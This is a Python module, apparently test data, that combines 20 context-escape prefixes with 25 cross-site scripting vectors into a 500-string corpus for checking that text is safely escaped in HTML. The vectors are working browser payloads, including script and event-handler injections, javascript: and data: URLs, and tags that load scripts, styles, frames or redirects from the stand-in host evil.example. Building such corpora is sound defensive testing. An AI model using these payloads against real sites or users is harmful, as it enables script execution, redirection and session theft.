"""Five hundred strings that would run, fetch or mislead where text became markup: every way out times every vector."""

from __future__ import annotations

from typing import Final

# What could enclose a text on a page, left by its own end.
WAYS_OUT: Final = (
    "", '"', "'", '">', "'>", "</script>", "</textarea>", "</title>", "</style>", "-->", "<!--", "]]>", "</pre></code>",
    "</option></select>", "</svg>", "</summary></details>", "&quot;&gt;", "%22%3e", "{{7*7}}{%", "\\x22\\u003e`${",
)  # fmt: skip

# What a browser would then do; each calls `pwned`, or asks a host that is not ours.
VECTORS: Final = (
    "<script>pwned()</script>",
    "<script src=//evil.example/s.js></script>",
    "<img src=//evil.example/i onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script href=//evil.example/s.js />",
    "<iframe src=//evil.example srcdoc='<script>parent.pwned()</script>'>",
    "<a href=javascript:pwned() ping=//evil.example>go</a>",
    "<a href=' javascript:pwned()' autofocus onfocus=pwned()>go</a>",
    "<style>@import'//evil.example/s.css';*{background:url(//evil.example/b)}</style>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<object data=//evil.example><embed src=//evil.example>",
    "<video poster=//evil.example/p src=//evil.example/v onerror=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>",
    "<form action=//evil.example><button autofocus>press",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<p style=background:url(//evil.example/b) onmouseover=pwned()>",
    "onload=pwned() style=background:url(//evil.example/a)",
    "javascript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "![x](//evil.example/i.png) [y](javascript:pwned())",
    "<noscript><img src=//evil.example/n></noscript><template><script>pwned()</script>",
    "<body onpageshow=pwned()><plaintext>",
)

CORPUS: Final = tuple(way + vector for way in WAYS_OUT for vector in VECTORS)
